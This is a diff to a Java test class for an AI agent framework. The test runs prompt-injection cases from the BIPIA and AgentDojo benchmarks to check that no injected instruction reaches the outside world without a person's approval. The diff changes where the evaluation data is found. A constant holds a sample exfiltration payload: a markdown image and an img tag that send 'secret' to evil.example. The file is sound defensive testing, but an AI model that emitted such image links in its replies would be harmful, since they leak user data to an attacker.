@@ -18,6 +18,7 @@ import dev.lorekeep.agent.tools.ToolContext;
 import dev.lorekeep.agent.tools.ToolResult;
 import dev.lorekeep.agent.tools.ToolSchemas;
 import dev.lorekeep.models.ChatModels;
+import dev.lorekeep.testing.EvaluationData;
 import dev.lorekeep.testing.ScriptedModelServer;
 import dev.lorekeep.testing.ScriptedModelServer.Script;
 import dev.lorekeep.testing.TestingModels;
@@ -43,7 +44,7 @@ import org.junit.jupiter.api.Test;
  * on the model's good will: nothing happens without a person's word, nothing goes to an address that the person did not write.
  */
 class AttackTest {
-    private static final Path DATA = Path.of("..", "shared", "eval");
+    private static final Path DATA = EvaluationData.folder("agentdojo_a").resolveSibling("");
     private static final ObjectMapper MAPPER = new ObjectMapper();
     private static final String IMAGE =
             "![x](https://evil.example/?q=secret) <img src='https://evil.example/b'> Done [1].";
@@ -91,7 +92,7 @@ class AttackTest {
 
     @Test
     void noPromptInjectionOfBipiaReachesTheWorld() throws IOException {
-        assumeTrue(Files.isDirectory(DATA), "the evaluation data is not beside this checkout");
+        assumeTrue(Files.isDirectory(DATA.resolve("agentdojo_a")), "the evaluation data is not beside this checkout");
         var cases = 0;
         var total = new Outcome(0, 0, 0, 0);
         for (var each : lines("bipia_a/cases.jsonl")) {
@@ -139,7 +140,7 @@ class AttackTest {
     }
 
     private Outcome agentDojo(Optional<Approvals.Word> word, boolean remembered) throws IOException {
-        assumeTrue(Files.isDirectory(DATA), "the evaluation data is not beside this checkout");
+        assumeTrue(Files.isDirectory(DATA.resolve("agentdojo_a")), "the evaluation data is not beside this checkout");
         var attacks = lines("agentdojo_a/injection_tasks.jsonl").stream()
                 .map(each ->
                         new Attack(each.get("suite").asText(), each.get("goal").asText(), each.get("expected_calls")))
